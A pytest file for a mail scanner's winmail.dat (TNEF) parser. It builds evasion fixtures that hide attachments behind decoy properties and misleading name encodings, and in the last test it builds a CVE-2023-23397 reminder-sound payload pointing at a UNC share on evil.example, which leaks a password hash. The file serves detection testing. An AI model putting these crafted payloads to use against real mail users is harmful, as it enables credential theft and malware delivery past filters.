"""`winmail.dat` within a mail: TNEF, whose attributes may hide an attachment."""

from __future__ import annotations

import struct
from pathlib import Path

import pytest

from bridge.service.analysis.inspection import inspect
from bridge.service.analysis.limits import Limits
from tests.service.container_kit import SCRIPT, ZIP, attribute, extracted, prop, tags, winmail
from tests.service.service_kit import attached

DECOY = prop(0x37010102, b"harmless text")
NAMED = (
    struct.pack("<I", 0x8001001F)
    + b"g" * 16
    + struct.pack("<II", 1, 4)
    + b"a\0\0\0"
    + struct.pack("<II", 1, 4)
    + b"b\0\0\0"
)
TNEFS = {
    "a decoy in another property": winmail(prop(0x0FF90102, DECOY), prop(0x37010102, ZIP)),
    "two contents": winmail(DECOY, prop(0x37010102, ZIP)),
    "after properties of all kinds": winmail(
        *(struct.pack("<I", 0x66660000 | kind) + bytes(size) for kind, size in ((2, 4), (0xB, 4), (0x40, 8), (5, 8))),
        NAMED,
        prop(0x37010102, ZIP),
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", TNEFS)
def test_a_decoy_hid_an_attachment_in_winmail_dat(name: str, tmp_path: Path) -> None:
    """Properties were found by searching for bytes, and the first one counted."""
    assert ZIP in extracted("tnef", TNEFS[name], "winmail.dat", tmp_path).values()
    assert "malware:eicar" in tags(TNEFS[name], "winmail.dat")


def test_a_name_in_another_script_was_misread_in_winmail_dat(tmp_path: Path) -> None:
    """UTF-16 was recognised by its zeros."""
    content = winmail(prop(0x3707001F, "\u4e00evil.js\0".encode("utf-16-le")), title=b"ATT.txt\0", data=SCRIPT)
    assert any(name.endswith("evil.js") for name in extracted("tnef", content, "winmail.dat", tmp_path))
    assert "mime:executable" in tags(content, "winmail.dat")


OTHER_PROPERTY = prop(0x0FF90102, b"harmless")


@pytest.mark.parametrize("kind", [0x00068010, 0x00008010, 0x12348010])
def test_a_name_of_another_type_was_ignored_in_winmail_dat(kind: int, tmp_path: Path) -> None:
    """Some programs look at the lower half of an id only."""
    content = winmail(OTHER_PROPERTY, title=b"evil.js\0", data=SCRIPT).replace(b"\x10\x80\1\0", struct.pack("<I", kind))
    assert "evil.js" in extracted("tnef", content, "winmail.dat", tmp_path)
    assert "mime:executable" in tags(content, "winmail.dat")


def test_content_of_another_type_was_ignored_in_winmail_dat(tmp_path: Path) -> None:
    content = winmail(OTHER_PROPERTY, data=ZIP).replace(b"\x0f\x80\6\0", b"\x0f\x80\1\0")
    assert ZIP in extracted("tnef", content, "winmail.dat", tmp_path).values()
    assert "malware:eicar" in tags(content, "winmail.dat")


def test_a_doubtful_new_attachment_in_winmail_dat_keeps_the_name() -> None:
    """To a program that looks at the whole id, there is only one."""
    content = winmail(title=b"evil.js\0") + attribute(0x00019002, bytes(14)) + attribute(0x0006800F, SCRIPT)
    assert "mime:executable" in tags(content, "winmail.dat")


def test_winmail_dat_with_overlapping_properties_is_bounded() -> None:
    """Wherever a property may begin it is read, and what they share is charged each time."""
    step = struct.pack("<III", 0x37010102, 1, 1_000_000)
    found = tags(winmail(step * 90_000), "winmail.dat")
    assert found & {"limit:archive-work", "limit:archive-size", "limit:archive-members"}


STREAM = b"".join(b'\1\2\3\4\5="//%x\xe9\xe8.a<\x0e\x0f' % number for number in range(6000))  # as if compressed
PDF = (
    b"%PDF-1.7\r\n%\xb5\xb5\xb5\xb5\r\n"
    + b"1 0 obj\r\n<</Type/Catalog/Pages 2 0 R/Lang(en)>>\r\nendobj\r\n" * 25
    + STREAM
)


def test_a_pdf_document_in_winmail_dat_was_read_as_the_text_of_a_mail() -> None:
    """Its first kilobyte is text, and its other bytes were thousands of odd hosts: a limit was reached."""
    found = inspect(attached(winmail(data=PDF, title=b"a.pdf\0"), "winmail.dat", "application/ms-tnef"), Limits())
    assert not found.limits and not found.hosts


@pytest.mark.parametrize("rest", [b"", bytes(range(32)) * 200], ids=["text", "control characters"])
def test_a_text_in_winmail_dat_that_begins_as_a_pdf_document_keeps_its_links(rest: bytes) -> None:
    body = b"%PDF-1.7\r\n" + b"text\r\n" * 300 + b"https://evil.example/x " + rest
    found = inspect(attached(winmail() + attribute(0x0002800C, body, 1), "winmail.dat"), Limits())
    assert "evil.example" in found.hosts


@pytest.mark.parametrize("host", ["evil.example", "files"])
def test_the_sound_of_a_reminder_in_winmail_dat_sent_a_password_to_a_server(host: str) -> None:
    """CVE-2023-23397."""
    path = f"\\\\{host}\\share\\a.wav"
    common = bytes.fromhex("0820060000000000c000000000000046") + struct.pack("<II", 0, 0x851F)
    for kind, value in ((0x1F, path.encode("utf-16-le") + b"\0\0"), (0x1E, path.encode() + b"\0")):
        sound = struct.pack("<I", 0x851F0000 | kind) + common + struct.pack("<II", 1, len(value)) + value
        content = winmail() + attribute(0x00069003, struct.pack("<I", 1) + sound + bytes(-len(value) % 4), 1)
        assert ("office:exploit" in tags(content, "winmail.dat")) == (host == "evil.example")
